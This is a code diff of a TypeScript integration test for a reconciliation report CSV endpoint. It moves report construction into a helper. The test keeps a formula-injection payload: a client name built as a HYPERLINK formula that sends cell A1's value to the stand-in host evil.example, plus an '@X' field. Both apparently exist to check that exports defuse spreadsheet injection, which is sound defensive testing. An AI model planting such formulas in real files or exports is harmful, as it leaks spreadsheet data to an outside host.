@@ -5,12 +5,8 @@
  */
 import Papa from 'papaparse';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { buildBe200Report } from '../../../engine/be200/report.ts';
-import { loadLibrary } from '../../../engine/formulas/library.ts';
-import { indexFormulas } from '../../../engine/formulas/references.ts';
-import { openSnapshotSandbox } from '../../../engine/formulas/sandbox.ts';
-import { readManifest, snapshotDataFile } from '../../../snapshots/store/snapshot-store.ts';
 import { apiClient, startTestServer, type TestServer } from '../support/test-server.ts';
+import { ourBe200Report } from '../support/our-be200.ts';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 
@@ -22,29 +18,14 @@ describe('the reconciliation report CSV over HTTP', () => {
     server = await startTestServer();
     client = apiClient(server.url);
     await client.post('/api/setup', { name: 'admin', password: 'a long admin password' });
-    const workspace = server.context.workspace;
-    const manifest = readManifest(workspace, server.snapshotId);
-    const library = loadLibrary();
-    const sandbox = await openSnapshotSandbox(snapshotDataFile(workspace, manifest.id));
-    try {
-      const report = await buildBe200Report({
-        sandbox,
-        snapshotKey: manifest.contentHash,
-        formulas: library.formulas,
-        index: indexFormulas(library.formulas),
-        variant: 'legacy',
-        params: { start: manifest.period.start, end: manifest.period.end },
-      });
-      const at = (name: string) => report.header.indexOf(name);
-      // A client only the legacy file has, named with a formula; and one cell one lower than ours.
-      const extra = report.header.map((name) =>
-        name === 'ClientNumber' ? '990001' : name === 'ClientName' ? HOSTILE_NAME : name === 'BillingCode' ? '@X' : '1',
-      );
-      const rows = report.rows.map((row, i) => (i === 0 ? row.map((value, j) => (j === at('SecCalls') ? String(Number(value) + 1) : value)) : row));
-      legacyCsv = Papa.unparse({ fields: [...report.header], data: [...rows.map((row) => [...row]), extra] });
-    } finally {
-      sandbox.close();
-    }
+    const report = await ourBe200Report(server);
+    const at = (name: string) => report.header.indexOf(name);
+    // A client only the legacy file has, named with a formula; and one cell one lower than ours.
+    const extra = report.header.map((name) =>
+      name === 'ClientNumber' ? '990001' : name === 'ClientName' ? HOSTILE_NAME : name === 'BillingCode' ? '@X' : '1',
+    );
+    const rows = report.rows.map((row, i) => (i === 0 ? row.map((value, j) => (j === at('SecCalls') ? String(Number(value) + 1) : value)) : row));
+    legacyCsv = Papa.unparse({ fields: [...report.header], data: [...rows.map((row) => [...row]), extra] });
   });
   afterAll(() => server.stop());
 
